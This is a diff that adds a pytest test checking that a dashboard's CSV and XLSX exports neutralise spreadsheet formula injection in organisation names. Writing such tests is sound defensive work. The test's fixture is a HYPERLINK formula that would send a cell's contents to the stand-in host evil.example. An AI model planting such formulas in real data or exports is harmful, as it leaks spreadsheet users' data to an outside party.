@@ -446,3 +446,21 @@ def test_the_dashboard_costs_the_same_queries_at_52_organizations_as_at_1000(act
     assert len(rows(large)) == 100
     assert len(at_52) == len(at_1000), "\n".join(q["sql"][:150] for q in at_1000.captured_queries)
     assert len(at_1000) <= 12, len(at_1000)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_imported_name_that_looks_like_a_formula_is_exported_as_text(actors, fmt):
+    actors.org_a.name = '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'
+    actors.org_a.save()
+    world.compliant(actors.org_a)
+
+    response = actors.client_for(actors.methodologist).get(CSV if fmt == "csv" else XLSX)
+
+    if fmt == "csv":
+        header, *body = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    else:
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+        header, *body = list(sheet.iter_rows(values_only=True))
+    row = next(row for row in body if row[0] == "СОШ №9")
+    assert row[1] == "'" + actors.org_a.name  # OWASP's apostrophe: Excel shows the text, runs nothing
